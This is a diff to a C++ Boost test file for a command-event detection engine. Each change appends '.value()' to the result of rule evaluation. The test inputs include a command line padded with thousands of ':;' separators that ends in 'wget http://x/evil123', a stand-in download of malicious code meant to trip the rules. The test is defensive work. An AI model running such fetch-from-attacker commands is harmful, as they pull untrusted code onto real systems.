@@ -48,7 +48,7 @@ struct fixture {
     }
     /// Whether the rule gives a decided tag.
     bool decides(std::string_view rule_id, event const& e) const {
-        auto const result = host.evaluate(e, noon);
+        auto const result = host.evaluate(e, noon).value();
         return std::ranges::any_of(result.tags,
                                    [&](tag const& each) { return each.rule_id == rule_id && !each.undecided; });
     }
@@ -86,7 +86,7 @@ BOOST_AUTO_TEST_CASE(a_cheap_rule_is_decided_among_many_that_are_stopped) {
     add_many(endless, 60);
     add("!canary$", "R999");
     BOOST_TEST(decides("R999", command(text_for_both())));
-    BOOST_TEST(host.evaluate(command(text_for_both()), noon).failed.size() == 60u);
+    BOOST_TEST(host.evaluate(command(text_for_both()), noon).value().failed.size() == 60u);
 }
 
 BOOST_AUTO_TEST_CASE(a_dear_rule_takes_what_cheap_ones_leave) {
@@ -99,7 +99,7 @@ BOOST_AUTO_TEST_CASE(a_dear_rule_takes_what_cheap_ones_leave) {
     add(dear, "R001");
     add_many("!canary$", 20);
     BOOST_TEST(decides("R001", command(text)));
-    BOOST_TEST(host.evaluate(command(text), noon).tags.size() == 21u);
+    BOOST_TEST(host.evaluate(command(text), noon).value().tags.size() == 21u);
 }
 
 BOOST_AUTO_TEST_CASE(rules_without_end_leave_a_dear_one_undecided_unless_the_event_is_long) {
@@ -107,7 +107,7 @@ BOOST_AUTO_TEST_CASE(rules_without_end_leave_a_dear_one_undecided_unless_the_eve
     add_many(endless, 20);
     auto e = command(text_for_both());
     BOOST_TEST(!decides("R001", e));
-    auto const result = host.evaluate(e, noon);
+    auto const result = host.evaluate(e, noon).value();
     BOOST_TEST(result.tags.front().rule_id == "R001");
     BOOST_TEST(result.tags.front().undecided);
     e.payload["more"] = std::string(2 * 1024 * 1024, 'a');
@@ -121,7 +121,7 @@ BOOST_AUTO_TEST_CASE(further_commands_of_a_line_have_work_of_their_own) {
     for (int i = 0; i != 17'000; ++i)
         line += ":;";
     BOOST_TEST(decides("R900", command(line + "wget http://x/evil123")));
-    BOOST_TEST(host.evaluate(command(line + "wget http://x/other"), noon).failed.size() == 8u);
+    BOOST_TEST(host.evaluate(command(line + "wget http://x/other"), noon).value().failed.size() == 8u);
 }
 
 BOOST_AUTO_TEST_CASE(window_is_fed_of_what_more_work_decides) {
@@ -137,7 +137,7 @@ BOOST_AUTO_TEST_CASE(order_of_tags_does_not_depend_on_repeated_evaluations) {
     add(dear, "R001");
     add_many("!canary$", 20);
     auto const check = [&] {
-        auto const tags = host.evaluate(command(text_for_both()), noon).tags;
+        auto const tags = host.evaluate(command(text_for_both()), noon).value().tags;
         BOOST_TEST(tags.size() == 21u);
         BOOST_TEST(std::ranges::is_sorted(tags, {}, &tag::rule_id));
     };
